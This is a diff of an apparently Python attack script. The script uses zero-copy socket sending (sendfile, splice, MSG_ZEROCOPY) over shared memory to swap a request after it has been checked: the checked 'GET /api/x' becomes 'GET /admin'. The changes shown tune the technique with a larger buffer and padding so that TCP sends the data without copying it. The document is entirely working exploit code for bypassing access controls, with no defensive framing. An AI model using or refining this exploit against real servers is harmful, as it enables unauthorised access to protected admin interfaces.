@@ -19,6 +19,7 @@ import time
 JUDGED = b"GET /api/x HTTP/1.1\r\nHost: b\r\n\r\n"
 BECOMES = b"GET /admin HTTP/1.1\r\nHost: b\r\n\r\n"
 SO_ZEROCOPY, MSG_ZEROCOPY = 60, 0x4000000
+REST, SIZE = 20000, 32768
 SPLICE_F_GIFT, SPLICE_F_MOVE = 8, 1
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -56,11 +57,12 @@ def by_sendfile(s, memory, file, size):
 
 
 def by_sendfile_behind_a_body(s, memory, file, size):
-    s.send(b"POST /api/x HTTP/1.1\r\nHost: b\r\nContent-Length: 1000\r\n\r\n" + b"x" * 990)
+    """So much that TCP does not put it together with what came before, by copying it."""
+    s.send(b"POST /api/x HTTP/1.1\r\nHost: b\r\nContent-Length: %d\r\n\r\n" % (REST + 10) + b"x" * 10)
     time.sleep(0.1)
-    os.pwrite(file, b"y" * 10 + JUDGED, 0)
-    os.sendfile(s.fileno(), file, 0, 10 + size)
-    return 10
+    os.pwrite(file, b"y" * REST + JUDGED, 0)
+    os.sendfile(s.fileno(), file, 0, REST + size)
+    return REST
 
 
 def by_splice(s, memory, file, size):
@@ -87,8 +89,8 @@ WAYS = {
 
 def attack(way, address, port, go):
     file = os.memfd_create("shared")
-    os.ftruncate(file, mmap.PAGESIZE)
-    memory = mmap.mmap(file, mmap.PAGESIZE)
+    os.ftruncate(file, SIZE)
+    memory = mmap.mmap(file, SIZE)
     memory[: len(JUDGED)] = JUDGED
     s = socket.create_connection((address, port))
     s.settimeout(5)
